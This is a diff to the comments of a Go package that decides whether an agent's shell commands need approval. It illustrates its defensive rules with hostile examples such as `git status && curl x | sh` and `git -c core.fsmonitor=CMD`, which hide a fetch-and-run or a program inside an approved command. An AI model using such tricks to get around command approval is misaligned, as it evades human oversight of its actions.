@@ -5,8 +5,14 @@
 // and sh -c unwrapped), and every simple command it may run is matched on
 // its own, so `git status && curl x | sh` never rides on a `git status`
 // rule: the call's approval is the strictest over its commands, and a
-// command no rule matches gets the default, ask. The deny rules are
-// checked before and apart from these: rules only tighten.
+// command no rule matches gets the default, ask. A rule covers what a
+// command does, not only its words: a preApproved rule does not cover an
+// option that writes a file or names a program (shellsyntax.Effects:
+// git log --output=FILE, git -c core.fsmonitor=CMD status, sort -o) unless
+// its words name the option, and a write of a file programs run code
+// from (repocode.File: .git/config, a Makefile) is at least ask. The
+// deny rules are checked before and apart from these: rules only
+// tighten.
 package execrules
 
 import (
@@ -126,7 +132,11 @@ type Decision struct {
 // commands, each decided by the strictest rule matching it (a rule matches
 // a command whose name is the pattern's first word and whose first
 // arguments are the pattern's other words, known when it is read), or by
-// Default when none does. A command that redirects into a file, or
+// Default when none does; a preApproved rule matches only a command
+// whose effects (options that write files or name programs) lie within
+// its words. For a program with subcommands (git) the rule's words may
+// also start at the subcommand, after its global options. A command that
+// redirects into a file, writes a file programs run code from, or
 // starts with a variable set that programs load or run code from, is at
 // least ask. Text the shell rules cannot analyse is an error (the deny
 // rules refuse it anyway).
